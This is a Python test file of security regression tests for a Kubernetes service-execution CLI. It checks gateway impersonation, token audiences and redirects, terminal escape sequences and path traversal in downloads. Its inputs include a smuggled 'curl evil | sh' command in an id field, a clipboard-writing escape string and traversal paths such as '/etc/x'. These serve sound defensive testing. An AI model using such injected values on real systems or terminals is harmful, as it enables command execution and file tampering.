"""C2, and sx's part of LOW: who has a namespace, a program or a service does not get at the person who uses ``sx``.

Tokens went to whoever wore the gateway's labels, and were the caller's own; keys were bound to a stranger's account;
programs wrote escapes onto terminals. Tried on 9b98b50, where all of it fails but what a project's file may
choose.
"""

import base64
import io
import json
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from serviceexecution.cli import main
from serviceexecution.cli.client import channel
from serviceexecution.cli.client.places import part_suffix, target_of, targets_of
from serviceexecution.cli.errors import CommandError
from serviceexecution.cli.service_client import AccessKeyCredentials, ServiceClient, TokenCredentials
from serviceexecution.cli.terminal import visible, visible_json, visible_line
from tests.unit.cli.conftest import cluster, sx
from tests.unit.cli.fake_cluster import GATEWAY_SERVICE

__all__ = ["cluster", "sx"]

LABELS = GATEWAY_SERVICE["metadata"]["labels"]
ID = "00000000-0000-4000-8000-000000000001"
ROLE = {"serviceexecution.dev/role": "submit", "app.kubernetes.io/instance": "sx"}
STEER = "\x1b[2J\x1b]52;c;aGk=\x07\x9b31m\u202ecod.exe\r"
SEEN = r"\x1b[2J\x1b]52;c;aGk=\x07\x9b31m\u202ecod.exe\r"


@pytest.fixture
def mallory(cluster):
    """Edit in dev-mallory, and nothing else: a Service and a Deployment with the gateway's labels, first by name."""
    service = {
        "metadata": {
            "namespace": "dev-mallory",
            "name": "gw",
            "labels": LABELS,
            "annotations": {"serviceexecution.dev/service-account": "mallory"},
        },
        "spec": {"ports": [{"name": "http", "port": 80}]},
    }
    cluster.objects["/api/v1/namespaces/dev-mallory/services/gw"] = service
    cluster.objects["/apis/apps/v1/namespaces/dev-mallory/deployments/d"] = {
        "metadata": {"namespace": "dev-mallory", "name": "d", "labels": LABELS},
        "spec": {
            "template": {"spec": {"serviceAccountName": "mallory", "containers": [{"name": "gateway"}]}}
        },
    }
    return cluster


@pytest.fixture
def terminal(monkeypatch, sx):
    """Run a command line on a terminal; gives exit code and what the terminal gets."""

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    def run(*argv):
        screen = Terminal()
        monkeypatch.setattr(sys, "argv", ["sx", *argv])
        monkeypatch.setattr(sys, "stdout", screen)
        monkeypatch.setattr(sys, "stderr", screen)
        with pytest.raises(SystemExit) as ended:
            main.main()
        return ended.value.code or 0, screen.getvalue()

    return run


def over_the_proxy(cluster):
    return [one for one in cluster.seen if "/proxy" in one[1]]


def test_a_service_that_wears_the_gateways_labels_gets_nothing(mallory, sx):
    mallory.definition("plot")
    sx("run", "plot", "-d", '{"$secrets": {"k": "v"}}', "--timeout", "50ms")
    sx("services")
    assert over_the_proxy(mallory)
    assert not [path for _, path, _, _ in mallory.seen if "mallory" in path]
    assert not [path for _, path, _, _ in mallory.seen if "labelSelector" in path and "/services" in path]


def test_without_a_gateway_at_its_place_a_look_alike_gets_nothing(mallory, sx, monkeypatch):
    monkeypatch.delenv("SX_GATEWAY")
    code, _, err = sx("run", "plot", "-d", '{"$secrets": {"k": "v"}}')
    assert code == 1
    assert "serviceexecution-system/serviceexecution-gateway" in err
    assert over_the_proxy(mallory) == []


def jwt(subject):
    part = base64.urlsafe_b64encode(json.dumps({"sub": subject}).encode()).decode().rstrip("=")
    return f"e30.{part}.sig"


@pytest.mark.parametrize(
    "user",
    [
        {"token": "static-or-opaque"},
        {"token": jwt("jane@example.com")},
        {"token": jwt("system:serviceaccount:team-a:ci")},
        {"token": jwt("system:serviceaccount:../..:x")},
        {"auth-provider": {"name": "oidc", "config": {"id-token": jwt("jane")}}},
        {"username": "stands for a client certificate: no token"},
    ],
)
def test_the_gateway_gets_a_token_for_its_own_audience_alone(cluster, sx, tmp_path, monkeypatch, user):
    cluster.execution("plain")
    cluster.objects["/api/v1/namespaces/team-a/serviceaccounts/ci"] = {}
    monkeypatch.setenv("KUBECONFIG", str(cluster.kubeconfig(tmp_path / "other", user=user)))
    assert sx("logs", "plain")[0] == 0
    [(_, _, headers, _)] = over_the_proxy(cluster)
    assert headers["X-ServiceExecution-Authorization"] == "Bearer minted"
    [(_, path, _, body)] = cluster.requests("POST", "/token")
    assert json.loads(body)["spec"]["audiences"] == ["services.serviceexecution.dev"]
    assert path.split("/")[-2] == (
        "ci" if user.get("token") == jwt("system:serviceaccount:team-a:ci") else "sx-cli"
    )


def test_a_token_file_and_a_plugin_are_shown_to_the_api_server_alone(cluster, sx, tmp_path, monkeypatch):
    cluster.execution("plain")
    (tmp_path / "token").write_text("from-file")
    plugin = {"apiVersion": "v1", "command": "echo", "args": ['{"status": {"token": "from-plugin"}}']}
    for user in ({"tokenFile": str(tmp_path / "token")}, {"exec": plugin}):
        monkeypatch.setenv("KUBECONFIG", str(cluster.kubeconfig(tmp_path / "other", user=user)))
        assert sx("logs", "plain")[0] == 0
    for _, _, headers, _ in over_the_proxy(cluster):
        assert headers["Authorization"].startswith("Bearer from-")  # the API server keeps it
        assert headers["X-ServiceExecution-Authorization"] == "Bearer minted"


def test_who_acts_as_another_has_no_more_rights_than_that_one(cluster, sx, tmp_path, monkeypatch):
    user = {"token": jwt("system:serviceaccount:kube-system:root"), "as": "jane", "as-groups": ["dev", "ops"]}
    monkeypatch.setenv("KUBECONFIG", str(cluster.kubeconfig(tmp_path / "other", user=user)))
    cluster.execution("plain")
    assert sx("logs", "plain")[0] == 0
    assert {headers.get("Impersonate-User") for _, _, headers, _ in cluster.seen} == {"jane"}
    assert not cluster.requests("POST", "/kube-system/")
    assert "does not act as another user" in sx("access-key", "list")[2]


def test_a_key_is_bound_to_the_gateways_account_alone(mallory, sx):
    mallory.objects["/api/v1/namespaces/team-a"] = {"metadata": {"name": "team-a"}}
    mallory.objects["/apis/rbac.authorization.k8s.io/v1/clusterroles/sx-submit"] = {
        "metadata": {"name": "sx-submit", "labels": ROLE}
    }
    assert sx("access-key", "create", "-n", "team-a")[0] == 0
    subjects = [
        subject
        for path, one in mallory.objects.items()
        if "/rolebindings/" in path
        for subject in one["subjects"]
    ]
    accounts = {(one["namespace"], one["name"]) for one in subjects if one["namespace"] != "team-a"}
    assert accounts == {("sx-system", "gw")}


@pytest.mark.parametrize("account", [None, "", "../x", "a b", 7, "x" * 300])
def test_a_gateway_without_a_proper_account_gets_no_key(cluster, sx, account):
    cluster.objects["/api/v1/namespaces/team-a"] = {"metadata": {"name": "team-a"}}
    cluster.objects["/apis/rbac.authorization.k8s.io/v1/clusterroles/sx-submit"] = {
        "metadata": {"name": "sx-submit", "labels": ROLE}
    }
    changed = json.loads(json.dumps(GATEWAY_SERVICE))
    changed["metadata"]["annotations"]["serviceexecution.dev/service-account"] = account
    cluster.objects["/api/v1/namespaces/sx-system/services/sx-gateway"] = changed
    code, _, err = sx("access-key", "create", "-n", "team-a")
    assert code == 1
    assert "does not name the gateway's account" in err
    assert not cluster.requests("POST", "/secrets")


@pytest.mark.parametrize("member", ["gateway: dev-mallory/gw", "spec: {gateway: dev-mallory/gw}"])
def test_a_projects_file_chooses_no_gateway(cluster, sx, tmp_path, member):
    (tmp_path / "plot" / "src").mkdir(parents=True)
    (tmp_path / "plot/src/program.py").write_text("def run():\n    return {}\n")
    (tmp_path / "plot/sx.yaml").write_text(member)
    sx("deploy", tmp_path / "plot", "--no-wait")
    assert not [path for _, path, _, _ in cluster.seen if "mallory" in path]


def test_a_projects_namespace_is_said_before_anything_goes_there(cluster, sx, tmp_path):
    (tmp_path / "plot" / "src").mkdir(parents=True)
    (tmp_path / "plot/src/program.py").write_text("def run():\n    return {}\n")
    (tmp_path / "plot/sx.yaml").write_text("metadata: {namespace: team-b}")
    cluster.refused = {("PATCH", "/servicedefinitions/")}
    err = sx("deploy", tmp_path / "plot", "--no-wait")[2]
    assert err.startswith("Namespace team-b, as sx.yaml says (the context's is team-a).\n")


def ended(execution):
    execution["status"] = {"phase": "Failed", "message": f"bad\n{STEER}", "startTime": "2026-01-01T00:00:00Z"}


def test_programs_do_not_steer_a_terminal(cluster, terminal):
    cluster.definition("plot")
    cluster.after_submit = ended
    cluster.logs[ID] = [f"log {STEER}end"]
    cluster.files = {"output.txt": f"result {STEER}end", f"x{STEER}.txt": "x"}
    for argv in (("run", "plot"), ("logs", ID), ("logs", ID, "-f"), ("status", ID), ("status",)):
        _, screen = terminal(*argv)
        assert not set(screen) & set("\x1b\x9b\x07\r\u202e"), argv
    assert f"log {SEEN}end" in terminal("logs", ID)[1]
    cluster.after_submit = lambda execution: execution.update(
        status={"phase": "Succeeded", "startTime": "2026-01-01T00:00:00Z"}
    )
    other = "00000000-0000-4000-8000-000000000002"
    _, screen = terminal("run", "plot")
    assert f"result {SEEN}end" in screen
    assert rf"x{SEEN}.txt" in screen
    assert f"result {SEEN}end" in terminal("result", other)[1]
    assert STEER in terminal("result", other, "--raw")[1]


def test_a_terminal_gets_them_when_it_is_asked_for(cluster, terminal):
    cluster.execution("plain", status={"phase": "Succeeded"})
    cluster.logs["plain"] = [STEER]
    assert STEER in terminal("logs", "plain", "--raw")[1]
    assert STEER in terminal("logs", "plain", "-f", "--raw")[1]


def test_files_and_pipes_get_a_log_as_it_is(cluster, sx):
    cluster.execution("plain")
    cluster.logs["plain"] = [STEER]
    assert sx("logs", "plain")[1] == STEER + "\n"


def test_builds_and_messages_do_not_steer_a_terminal(cluster, terminal):
    revision = {"name": "r1", "phase": "Failed", "message": STEER}
    cluster.definition(
        "plot", status={"revisions": [revision], "phase": STEER, "revision": f"r\n1{STEER}", "message": STEER}
    )
    cluster.logs["r1"] = [STEER]
    for argv in (
        ("builds", "plot"),
        ("builds", "plot", "-o", "json"),
        ("builds", "logs", "plot"),
        ("builds", "logs", "plot", "-f"),
        ("services",),
        ("services", "-o", "json"),
        ("rollback", "plot"),
    ):
        screen = terminal(*argv)[1]
        assert not set(screen) & set("\x1b\x9b\x07\r\u202e"), argv
    assert STEER in terminal("builds", "logs", "plot", "--raw")[1]


def test_an_error_does_not_steer_a_terminal(cluster, sx):
    cluster.problem = (400, "Invalid", STEER)
    assert not set(sx("run", "plot")[2]) & set("\x1b\x9b\x07\r\u202e")


def test_markup_in_foreign_text_is_shown_as_text():
    assert visible("[bold]x[/] [link=https://evil]y[/link]") == "[bold]x[/] [link=https://evil]y[/link]"


def test_what_is_shown_of_characters():
    assert visible("a\tb\r\nc\x1b[1;31mred\x1b[0m é 漢 👩‍💻") == "a\tb\ncred é 漢 👩‍💻"
    assert visible_line("a\nb\tc\ud800\u2028\U000e0041") == r"a\nb\tc\ud800\u2028\U000e0041"
    for code in [*range(32), 127, *range(128, 160), 0x61C, 0x200E, 0x202A, 0x202E, 0x2066, 0x2069]:
        assert chr(code) not in visible_line(f"a{chr(code)}b")
        assert json.loads(visible_json([f"a{chr(code)}b"])) == [f"a{chr(code)}b"]
        assert chr(code) not in visible_json([f"a{chr(code)}b"]).replace("\n", "")


def test_a_row_of_a_table_is_one_line(cluster, sx):
    cluster.execution("one", status={"phase": "Failed", "reason": "x\ntwo   plot   r1   Succeeded"})
    assert len(sx("status")[1].splitlines()) == 2


def test_an_id_that_is_none_becomes_no_command(evil):
    server = evil(lambda _: (201, {}, json.dumps({"id": "x; curl evil | sh"}).encode()))
    with (
        ServiceClient(server.url, TokenCredentials("t")) as client,
        pytest.raises(CommandError, match="an invalid id"),
    ):
        client.submit(b"{}")


class Evil(ThreadingHTTPServer):
    """Answers as it likes; ``seen`` are the requests' paths and Authorization headers."""

    def __init__(self, answer):
        super().__init__(("127.0.0.1", 0), _EvilHandler)
        self.answer, self.seen = answer, []
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server_port}/services/a/b"

    def close(self):
        self.shutdown()
        self.server_close()


class _EvilHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Evil

    def do_GET(self):
        self.server.seen.append((self.path, self.headers.get("Authorization")))
        if length := int(self.headers.get("Content-Length") or 0):
            self.rfile.read(length)
        status, headers, body = self.server.answer(self.path)
        self.send_response(status)
        for name, value in {"Content-Length": str(len(body)), **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_):
        pass


@pytest.fixture
def evil():
    servers = []

    def start(answer):
        servers.append(Evil(answer))
        return servers[-1]

    yield start
    for server in servers:
        server.close()


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_no_token_follows_a_redirect(evil, status):
    elsewhere = evil(lambda _: (200, {}, b"{}"))
    here = evil(lambda _: (status, {"Location": elsewhere.url}, b""))
    for credentials in (TokenCredentials("secret"), AccessKeyCredentials("a.k1", "secret")):
        with ServiceClient(here.url, credentials) as client, pytest.raises(CommandError, match="redirect"):
            client.status("id")
    assert elsewhere.seen == []


def test_a_link_of_a_result_leads_nowhere_else(evil, tmp_path):
    links = {
        "a": {"href": "https://evil.example/services/a/b/id/result/a"},
        "b": {"href": "/id/result/x?y=1#z"},
    }
    document = json.dumps({"_links": links}).encode()
    server = evil(lambda path: (200, {}, document if path.endswith("/result") else b""))
    with ServiceClient(server.url, TokenCredentials("t")) as client:
        list(client.download_all("id", tmp_path))
    below = "/services/a/b/id/result"
    assert [path for path, _ in server.seen] == [below, f"{below}/a", f"{below}/x%3Fy%3D1%23z"]


def test_answers_have_an_end(evil, monkeypatch):
    monkeypatch.setattr(channel, "LARGEST_ANSWER", 1 << 20)
    monkeypatch.setattr(channel, "LONGEST_LINE", 1 << 16)
    server = evil(lambda _: (200, {}, b"x" * (2 << 20)))
    with ServiceClient(server.url, TokenCredentials("t")) as client:
        with pytest.raises(CommandError, match="larger than 1 MiB"):
            client.status("id")
        with pytest.raises(CommandError, match="longer than"):
            list(client.follow_log("id"))


def test_an_event_that_is_none_is_said(evil):
    server = evil(lambda _: (200, {}, b"data: {not json\n\n"))
    with (
        ServiceClient(server.url, TokenCredentials("t")) as client,
        pytest.raises(CommandError, match="no log entry"),
    ):
        list(client.follow_log("id"))


def test_a_line_separator_in_a_log_line_ends_no_event(evil):
    text = "a\u2028b\x85c\x1cd"
    body = f"data: {json.dumps({'message': text}, ensure_ascii=False)}\n\nevent: end\ndata: {{}}\n\n"
    server = evil(lambda _: (200, {}, body.encode()))
    with ServiceClient(server.url, TokenCredentials("t")) as client:
        assert [entry["message"] for entry in client.follow_log("id")] == [text]


def serving(evil, *names):
    def answer(path):
        if path.endswith("/result"):
            links = {name: {"href": f"http://x/id/result/{name}"} for name in names}
            return 200, {}, json.dumps({"_links": links}).encode()
        return 200, {}, path.rsplit("/", 1)[1].encode()

    return ServiceClient(evil(answer).url, TokenCredentials("t"), pause=0)


def test_a_link_in_the_folder_leads_no_file_out_of_it(evil, tmp_path):
    home, folder = tmp_path / "home", tmp_path / "results"
    home.mkdir()
    folder.mkdir()
    (home / "kept").write_text("kept")
    (folder / "plots").symlink_to(home)
    (folder / "a").symlink_to(home / "kept")
    (folder / "b.part").symlink_to(home / "kept")
    (folder / "c.part.etag").symlink_to(home / "kept")
    (folder / "d").symlink_to(home / "not-there")
    for name in ("plots/x", "plots/deep/x"):
        with serving(evil, name) as client, pytest.raises(CommandError, match="leads out"):
            list(client.download_all("id", folder))
    for name in ("b", "c"):
        with serving(evil, name) as client, pytest.raises(CommandError, match="is a link"):
            list(client.download_all("id", folder))
    with serving(evil, "a", "d") as client:
        list(client.download_all("id", folder))
    assert (folder / "a").read_text() == "a"  # the link itself was replaced
    assert not (folder / "a").is_symlink()
    assert [path.name for path in home.iterdir()] == ["kept"]
    assert (home / "kept").read_text() == "kept"


def test_a_file_called_as_an_unfinished_one_is_kept(evil, tmp_path):
    with serving(evil, "a.part", "a.part.etag", "a") as client:
        list(client.download_all("id", tmp_path))
    assert {path.name: path.read_text() for path in tmp_path.iterdir()} == {
        name: name for name in ("a", "a.part", "a.part.etag")
    }
    assert part_suffix(["a"]) == ".part"
    assert part_suffix(["x/a.PART", "b.1.part/c"]) == ".2.part"


def test_a_file_where_a_folder_is_and_the_other_way_round(evil, tmp_path):
    with serving(evil, "a", "a/b") as client, pytest.raises(CommandError, match="no place"):
        list(client.download_all("id", tmp_path))
    (tmp_path / "c").mkdir()
    with serving(evil, "c") as client, pytest.raises(CommandError, match="no place"):
        list(client.download_all("id", tmp_path))


def test_names_become_names_of_this_machine(tmp_path):
    assert target_of(tmp_path, "a/new\nline\x1b.txt") == tmp_path / "a" / "new%0Aline%1B.txt"
    windows = {"C:\\x": "C%3A%5Cx", "con": "%63on", "NUL.txt": "%4EUL.txt", "a. ": "a%2E%20", "a?b": "a%3Fb"}
    for name, local in windows.items():
        assert target_of(tmp_path, name, windows=True) == tmp_path / local
        assert target_of(tmp_path, name, windows=False) == tmp_path / name
    with pytest.raises(CommandError, match="same place"):
        targets_of(tmp_path, ["a\n", "a%0A"])
    for name in ("../x", "a/../../x", "/etc/x", "", ".", "a\0b"):
        with pytest.raises(CommandError, match="leads out"):
            target_of(tmp_path, name)
